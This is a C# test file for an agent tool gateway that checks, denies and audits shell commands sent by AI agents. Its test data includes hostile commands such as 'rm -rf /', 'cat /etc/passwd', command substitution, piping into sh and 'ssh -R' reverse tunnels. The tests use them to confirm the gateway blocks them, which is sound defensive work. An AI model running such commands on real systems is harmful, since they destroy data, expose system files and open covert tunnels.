using System.Net;
using System.Text.Json;
using ToolGate.Gateway.Tests.Infrastructure;

namespace ToolGate.Gateway.Tests.Pipeline;

public sealed class ShellToolCallTests(GatewayFixture fixture) : IClassFixture<GatewayFixture>
{
    private readonly GatewayHarness _gateway = fixture.Gateway;

    private async Task<(string Id, HttpClient Client, string Cwd)> AgentWithEchoGrantAsync()
    {
        var cwd = Directory.CreateTempSubdirectory("toolgate-cwd-").FullName;
        var (id, _, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "shell", allow = new[] { "echo *", "ls" }, paths = new[] { cwd + "/**" } });
        return (id, client, cwd);
    }

    private static StringContent Shell(string command, string cwd) =>
        Json.Body(JsonSerializer.Serialize(new { command, cwd }));

    [Fact]
    public async Task AllowedCall_ReachesToolAndReturnsItsOutput()
    {
        var (id, client, cwd) = await AgentWithEchoGrantAsync();

        using var response = await client.PostAsync("/tools/shell", Shell("echo 'hello  world' again", cwd));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var result = await Json.ReadAsync(response);
        Assert.Equal(0, result.GetProperty("exitCode").GetInt32());
        Assert.Equal("hello  world again\n", result.Text("stdout"));
        var decisionId = Assert.Single(response.Headers.GetValues("X-ToolGate-Decision-Id"));

        var received = (await fixture.Tools.ReceivedAsync(fixture.Tools.Shell)).Where(r => r.Headers.GetValueOrDefault("X-ToolGate-Decision-Id") == decisionId).ToList();
        var call = Assert.Single(received);
        var body = JsonDocument.Parse(call.Body).RootElement;
        Assert.Equal(["echo", "hello  world", "again"], body.GetProperty("argv").EnumerateArray().Select(e => e.GetString()));
        Assert.Equal(id, call.Headers["X-ToolGate-Agent-Id"]);
        Assert.False(call.Headers.ContainsKey("Authorization"), "the agent's key must never reach the tool");
    }

    [Fact]
    public async Task ExtraBodyFieldsQueryAndHeaders_AreNotForwarded()
    {
        var (_, client, cwd) = await AgentWithEchoGrantAsync();
        var body = JsonSerializer.Serialize(new { command = "echo hi", cwd, argv = new[] { "rm", "-rf", "/" }, env = new { X = "1" } });
        using var request = new HttpRequestMessage(HttpMethod.Post, "/tools/shell?argv=rm&timeout=0") { Content = Json.Body(body) };
        request.Headers.Add("Cookie", "session=agent");
        request.Headers.Add("X-Tool-Override", "run-as-root");

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("hi\n", (await Json.ReadAsync(response)).Text("stdout"));
        var decisionId = response.Headers.GetValues("X-ToolGate-Decision-Id").Single();
        var call = (await fixture.Tools.ReceivedAsync(fixture.Tools.Shell)).Single(r => r.Headers.GetValueOrDefault("X-ToolGate-Decision-Id") == decisionId);
        Assert.False(call.Headers.ContainsKey("Cookie"));
        Assert.False(call.Headers.ContainsKey("X-Tool-Override"));
        Assert.Equal("/tools/shell", call.Path);
        var forwarded = JsonDocument.Parse(call.Body).RootElement;
        Assert.Equal(["command", "cwd", "argv", "script"], forwarded.EnumerateObject().Select(p => p.Name));
        Assert.Equal(["echo", "hi"], forwarded.GetProperty("argv").EnumerateArray().Select(e => e.GetString()));
    }

    [Theory]
    [InlineData("cat /etc/passwd", "no shell grant allows 'cat' with these arguments", "default-deny")]
    [InlineData("echo hi; rm -rf /", "no shell grant allows 'rm' with these arguments", "default-deny")]
    [InlineData("echo $(id)", "unsupported shell construct: command substitution '$(id)'", "shell.unsupported-construct")]
    [InlineData("echo /etc/passwd", null, null)]
    public async Task DeniedCall_Returns403ProblemAndNeverReachesTool(string command, string? reason, string? rule)
    {
        var (id, client, cwd) = await AgentWithEchoGrantAsync();

        using var response = await client.PostAsync("/tools/shell", Shell(command, cwd));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = await Json.ReadAsync(response);
        var decisionId = problem.Text("decisionId");
        Assert.False(string.IsNullOrEmpty(decisionId));
        if (reason is not null)
        {
            Assert.Equal(reason, problem.Text("reason"));
            Assert.Equal(rule, problem.Text("rule"));
        }
        else
        {
            Assert.StartsWith("grant:", problem.Text("rule"), StringComparison.Ordinal);
        }

        Assert.DoesNotContain(await fixture.Tools.ReceivedAsync(fixture.Tools.Shell), r => r.Headers.GetValueOrDefault("X-ToolGate-Agent-Id") == id);
        var audit = await _gateway.AuditAsync("decisionId=" + decisionId);
        var record = Assert.Single(audit);
        Assert.Equal("deny", record.Text("decision"));
        Assert.Equal(problem.Text("rule"), record.Text("rule"));
    }

    [Fact]
    public async Task PipelinesAndLists_RunAsCheckedWithoutAShell()
    {
        var cwd = Directory.CreateTempSubdirectory("toolgate-cwd-").FullName;
        await File.WriteAllTextAsync(Path.Combine(cwd, "b.txt"), "x");
        await File.WriteAllTextAsync(Path.Combine(cwd, "a.txt"), "x");
        var (id, _, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "shell", allow = new[] { "printf *", "grep *", "echo *", "ls *", "false" }, paths = new[] { cwd + "/**" } });

        using var response = await client.PostAsync("/tools/shell",
            Shell("printf 'a\\nb\\nc\\n' | grep b && false || echo fallback; ls *.txt 2>&1; grep -c x < a.txt", cwd));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var result = await Json.ReadAsync(response);
        Assert.Equal("b\nfallback\na.txt\nb.txt\n1\n", result.Text("stdout"));
        Assert.Equal(0, result.GetProperty("exitCode").GetInt32());
    }

    [Theory]
    [InlineData("echo hi | sh", "'sh' runs a script or reads commands from stdin, which cannot be judged")]
    [InlineData("echo hi > out.txt", "redirection '> out.txt' writes a file")]
    [InlineData("echo hi && ssh -R 1:localhost:22 a@203.0.113.9", "'ssh -R' opens a tunnel or port forward")]
    public async Task CompoundLine_WithOneBadPart_IsDeniedAsAWhole(string command, string reason)
    {
        var (id, client, cwd) = await AgentWithEchoGrantAsync();

        using var response = await client.PostAsync("/tools/shell", Shell(command, cwd));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal(reason, (await Json.ReadAsync(response)).Text("reason"));
        Assert.DoesNotContain(await fixture.Tools.ReceivedAsync(fixture.Tools.Shell), r => r.Headers.GetValueOrDefault("X-ToolGate-Agent-Id") == id);
    }

    [Fact]
    public async Task GuardrailHit_IsCriticalEvenWhenGranted()
    {
        var (id, _, client) = await _gateway.CreateAgentAsync();
        await _gateway.GrantAsync(new { agentId = id, capability = "shell", allow = new[] { "ssh *" } });

        using var response = await client.PostAsync("/tools/shell", Shell("ssh -N -R 8022:127.0.0.1:22 ops@203.0.113.9", "/"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var problem = await Json.ReadAsync(response);
        Assert.Equal("guardrail:shell.tunnel", problem.Text("rule"));
        var record = Assert.Single(await _gateway.AuditAsync("decisionId=" + problem.Text("decisionId")));
        Assert.Equal("critical", record.Text("severity"));
    }
}
